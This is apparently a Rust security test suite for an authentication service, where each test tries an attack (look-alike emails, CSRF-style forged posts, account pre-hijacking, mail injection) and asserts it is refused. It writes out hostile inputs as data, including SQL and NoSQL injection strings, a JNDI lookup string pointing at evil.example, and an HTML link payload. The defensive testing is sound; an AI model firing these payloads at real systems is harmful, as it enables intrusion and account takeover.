//! Attacks that need access to the stack, each named by the attacker's goal.

use std::sync::{Arc, Mutex};

use axum::{Json, Router};
use journeys::{Embedded, Item, PASSWORD, Visitor, paths};
use serde_json::{Value, json};

use crate::hosts;
use crate::rows;
use crate::scenarios::assert_sound;

const EMAIL_INVALID: (u16, &str) = (200, "Introduce un email válido");

fn said(expected: (u16, &str)) -> (u16, String) {
    (expected.0, expected.1.to_owned())
}

#[tokio::test]
async fn an_address_that_unicode_folds_to_another_one_is_refused() {
    let stack = Embedded::start(&[]).await;
    let mut kiss = stack.service.visitor();
    kiss.email = format!("kiss-{}", kiss.email);
    assert_eq!(kiss.register().await.success(), true);
    for (letter, look_alike) in
        [("k", "\u{212a}"), ("i", "\u{131}"), ("i", "\u{130}"), ("s", "\u{17f}"), ("k", "\u{ff4b}"), ("e", "\u{435}")]
    {
        let mut attacker = Visitor { email: kiss.email.replacen(letter, look_alike, 1), ..kiss.elsewhere() };
        let email = attacker.email.clone();
        assert_eq!(attacker.register().await.said(), said(EMAIL_INVALID), "{email}");
        assert_eq!(attacker.login(PASSWORD).await.said(), said(EMAIL_INVALID), "{email}");
        let link = attacker.form(paths::SEND_RESET_LINK, &[("email", &email)]).await;
        assert_eq!(link.said(), said(EMAIL_INVALID), "{email}");
        assert_eq!(attacker.google(json!({})).await.status, 401, "{email}");
    }
    assert!(stack.mail.calls().is_empty());
}

#[tokio::test]
async fn a_name_that_reads_like_an_expression_is_only_a_name() {
    let stack = Embedded::start(&[]).await;
    let mut ana = stack.service.visitor().signed().await;
    let without_name = |row: Option<Item>| rows::with(&rows::with(&row.unwrap(), "name", None), "nonce", None);
    let before = without_name(rows::profile(&stack, &ana.email).await);
    for name in [
        "#generation = :next",
        ":name",
        "x, #id = :one",
        "SET #password = :x REMOVE #reset_hash",
        "attribute_not_exists(#pk)",
        "' OR '1'='1",
        "{\"$ne\":null}",
        "${jndi:ldap://evil.example}",
    ] {
        assert_eq!(ana.form(paths::USER_CONFIG, &[("name", name)]).await.success(), true, "{name}");
        assert_eq!(ana.session().await.user("name"), name);
    }
    assert_eq!(without_name(rows::profile(&stack, &ana.email).await), before);
}

#[tokio::test]
async fn no_mail_contains_anything_that_a_stranger_chose() {
    let stack = Embedded::start(&[("FRONT_END_URL", "https://app.example")]).await;
    let mut stranger = stack.service.visitor();
    let name = "<a href=\"https://evil.example\">Premio</a> https://evil.example";
    assert_eq!(stranger.register_with(&[("nombre", name)]).await.success(), true);
    stranger.reset_token().await;
    assert_eq!(stranger.elsewhere().google(json!({"name": name})).await.json()["status"], "exists");
    let mails = stack.service.mails(&stranger.email).await;
    assert_eq!(mails.len(), 2);
    for part in mails.iter().flat_map(|mail| ["subject", "text", "html"].map(|part| mail[part].as_str().unwrap())) {
        assert!(!part.contains("evil") && !part.contains("Premio"), "{part}");
        assert!(part.split("https://").skip(1).all(|address| address.starts_with("app.example")), "{part}");
    }
}

/// Requests that a page of another origin can send without a preflight, with the victim's cookies.
fn forged(stack: &Embedded, path: &str, cookie: &str, content_type: &str, body: String) -> reqwest::RequestBuilder {
    let request = stack.service.request("POST", path).header("origin", "https://evil.example").header("cookie", cookie);
    request.header("content-type", content_type).body(body)
}

#[tokio::test]
async fn a_page_of_another_origin_cannot_sign_in_or_change_anything() {
    let stack = Embedded::start(&[]).await;
    let mut victim = stack.service.visitor().signed().await;
    let attacker = stack.service.visitor().registered().await;
    let (token, cookie) = (victim.reset_token().await, victim.cookie.clone().unwrap());
    let credential = attacker.credential(json!({})).await;
    let fields = [
        ("email", attacker.email.as_str()),
        ("password", PASSWORD),
        ("name", "Eva"),
        ("nombre", "Eva"),
        ("token", &token),
        ("credential", &credential),
        ("g_csrf_token", "x"),
    ];
    let encoded: Vec<String> = fields.iter().map(|(name, value)| format!("{name}={value}")).collect();
    let part = |(name, value): &(&str, &str)| {
        format!("--x\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
    };
    let bodies = [
        ("application/x-www-form-urlencoded", encoded.join("&")),
        ("multipart/form-data; boundary=x", fields.iter().map(part).collect::<String>() + "--x--\r\n"),
        ("text/plain", json!({"credential": credential}).to_string()),
    ];
    drop((stack.table.calls(), stack.mail.calls()));
    for &path in paths::ALL {
        for (content_type, body) in &bodies {
            let answer = stack.service.send(forged(&stack, path, &cookie, content_type, body.clone())).await;
            assert_eq!((answer.status, answer.set_cookies().len()), (403, 0), "{path} {content_type}");
        }
    }
    assert!(stack.table.calls().is_empty() && stack.mail.calls().is_empty());
    assert_eq!(victim.session().await.user("name"), "Ana García");
}

#[tokio::test]
async fn a_presented_session_never_links_an_identity_to_its_account() {
    let stack = Embedded::start(&[]).await;
    // The attacker registers another person's address before its owner does.
    let mut attacker = stack.service.visitor().signed().await;
    let (account, cookie) = (attacker.session().await.user("id"), attacker.cookie.clone());
    let own = stack.service.visitor().email;
    let mut trojan = Visitor { email: own, cookie, ..attacker.elsewhere() };
    let login = trojan.google(json!({})).await;
    assert_eq!(login.json()["status"], "inserted");
    assert_ne!(login.user("id"), account);
    let owner = attacker.elsewhere().google(json!({})).await;
    assert_eq!((&owner.json()["status"], owner.user("id")), (&json!("exists"), account.clone()));
    assert_ne!(trojan.elsewhere().google(json!({})).await.user("id"), account);
    assert_sound(&stack).await;
}

#[tokio::test]
async fn a_reset_by_the_owner_ends_every_access_of_an_earlier_registrant() {
    let stack = Embedded::start(&[]).await;
    let mut attacker = stack.service.visitor().signed().await;
    let mut second = attacker.elsewhere();
    second.login(PASSWORD).await;
    let older = attacker.reset_token().await;
    let mut owner = attacker.elsewhere();
    let token = owner.reset_token().await;
    assert_eq!(owner.reset(&token, "Otra1234").await.success(), true);
    for device in [&mut attacker, &mut second] {
        assert_eq!(device.session().await.status, 401);
    }
    assert_eq!(attacker.login(PASSWORD).await.success(), false);
    for token in [older, token] {
        assert_eq!(attacker.reset(&token, PASSWORD).await.success(), false);
    }
    assert_eq!(owner.login("Otra1234").await.success(), true);
}

/// A server in place of SES that records the requests.
async fn post_office() -> (String, Arc<Mutex<Vec<Value>>>) {
    let sent: Arc<Mutex<Vec<Value>>> = Arc::default();
    let kept = Arc::clone(&sent);
    let take = async move |Json(request): Json<Value>| {
        kept.lock().unwrap().push(request);
        Json(json!({"MessageId": "1"}))
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, Router::new().fallback(take)).await });
    (url, sent)
}

#[tokio::test]
async fn a_letter_has_one_recipient_the_stored_address_and_no_other_of_any_kind() {
    let stack = Embedded::start(&[]).await;
    let ana = stack.service.visitor().registered().await;
    let (url, sent) = post_office().await;
    let functions = hosts::all(&stack, &[("AWS_ENDPOINT_URL_SESV2", &url)]);
    let post = async |path: &str, content_type: &str, body: String| {
        let function = functions.iter().find(|function| function.path == path).unwrap();
        assert_eq!(function.invoke(&hosts::event(path, content_type, &body).to_string()).await.0, 200);
    };
    let form = "application/x-www-form-urlencoded";
    post(paths::SEND_RESET_LINK, form, format!("email={}&cc=eva@example.com&to=eva@example.com", ana.email)).await;
    post(paths::SEND_RESET_LINK, form, format!("email= {}", ana.email.to_uppercase())).await;
    let credential = ana.credential(json!({"email": ana.email.to_uppercase()})).await;
    post(paths::GOOGLE_LOGIN, "application/json", json!({"credential": credential}).to_string()).await;
    let sent = sent.lock().unwrap().clone();
    assert_eq!(sent.len(), 3);
    for request in sent {
        assert_eq!(request["Destination"], json!({"ToAddresses": [ana.email]}));
        let mut members: Vec<&String> = request.as_object().unwrap().keys().collect();
        members.sort();
        assert_eq!(members, ["Content", "Destination", "FromEmailAddress"]);
        assert!(request["Content"]["Simple"].get("Headers").is_none(), "{request}");
    }
}
